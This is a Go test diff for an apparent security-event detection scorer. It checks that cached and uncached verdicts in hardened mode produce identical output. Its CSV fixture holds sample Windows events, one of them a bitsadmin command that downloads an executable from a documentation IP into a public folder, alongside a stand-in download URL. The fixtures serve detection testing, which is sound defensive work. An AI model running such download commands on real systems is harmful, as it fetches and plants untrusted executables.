@@ -56,17 +56,7 @@ func TestVerdictCellsChangeNoByte(t *testing.T) {
 			}
 			// Twice: the second chunk must find the cache emptied and refilled.
 			for range 2 {
-				want, err := scoreBody(t, plain, []byte(body))
-				if err != nil {
-					t.Fatal(err)
-				}
-				got, err := scoreBody(t, cached, []byte(body))
-				if err != nil {
-					t.Fatal(err)
-				}
-				if !bytes.Equal(got, want) {
-					t.Errorf("cached reply differs:\n%s", cmp.Diff(strings.Split(string(want), "\n"), strings.Split(string(got), "\n")))
-				}
+				sameReply(t, plain, cached, body)
 			}
 			if name == "standard" && len(cached.verdictCells) == 0 {
 				t.Error("the standard layout did not use the verdict cache")
@@ -76,4 +66,78 @@ func TestVerdictCellsChangeNoByte(t *testing.T) {
 			}
 		})
 	}
+}
+
+// In mode=hardened only some events have a verdict (those with no
+// indicator and nothing extracted); the others encode their own cells. A
+// chunk mixing both, in every layout, is written exactly as cell by cell,
+// and both paths are taken.
+func TestHardenedVerdictCellsChangeNoByte(t *testing.T) {
+	mixed := "EventCode,CommandLine,Image,ParentImage,processPath,url,_chunked_idx\n" +
+		"1,notepad.exe C:\\notes.txt,C:\\Windows\\System32\\notepad.exe,C:\\Windows\\explorer.exe,,,0\n" +
+		"1,bitsadmin /transfer x http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe,C:\\Windows\\System32\\cmd.exe,,,1\n" +
+		"4688,\"powershell.exe -nop -c Get-Date\",C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe,,,,2\n" +
+		"3,,,,C:\\Users\\jdoe\\AppData\\Local\\Temp\\x.exe,,3\n" +
+		"59,,,,,https://dl.example.net/p.exe,4\n" +
+		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,5\n" +
+		"1,whoami,C:\\Windows\\System32\\whoami.exe,,,,6\n" + // twice: the memo answers
+		",,,,,,7\n"
+	bodies := map[string]string{
+		"standard":               string(testevents.Body(2000, 7)),
+		"mixed":                  mixed,
+		"mixed, outputs present": strings.Replace(mixed, "_chunked_idx\n", "_chunked_idx,RiskScore,__mv_Indicators\n", 1),
+	}
+	for name, body := range bodies {
+		t.Run(name, func(t *testing.T) {
+			if strings.Contains(name, "present") {
+				body = strings.ReplaceAll(body, "\n", ",,\n")
+				body = strings.Replace(body, ",,\n", "\n", 1) // not the header
+			}
+			det, err := NewDetector(Config{Mode: ModeHardened})
+			if err != nil {
+				t.Fatal(err)
+			}
+			plainDet, err := NewDetector(Config{Mode: ModeHardened})
+			if err != nil {
+				t.Fatal(err)
+			}
+			cached, plain := newChunkScorer(det), newChunkScorer(hideVerdict{plainDet})
+			for range 2 {
+				if want := sameReply(t, plain, cached, body); !strings.Contains(want, "IsBitsAdmin") && !strings.Contains(name, "present") {
+					t.Fatalf("reply lacks the SPL's columns:\n%s", want)
+				}
+			}
+			if used := countCachedVerdicts(cached); used == 0 {
+				t.Error("no record used the verdict cache")
+			}
+		})
+	}
+}
+
+// sameReply scores body with both scorers and fails unless the replies are
+// byte for byte equal; it returns the reply.
+func sameReply(t *testing.T, plain, cached *chunkScorer, body string) string {
+	t.Helper()
+	want, err := scoreBody(t, plain, []byte(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := scoreBody(t, cached, []byte(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("cached reply differs:\n%s", cmp.Diff(strings.Split(string(want), "\n"), strings.Split(string(got), "\n")))
+	}
+	return string(want)
+}
+
+func countCachedVerdicts(s *chunkScorer) int {
+	n := 0
+	for _, c := range s.verdictCells {
+		if c.ok {
+			n++
+		}
+	}
+	return n
 }
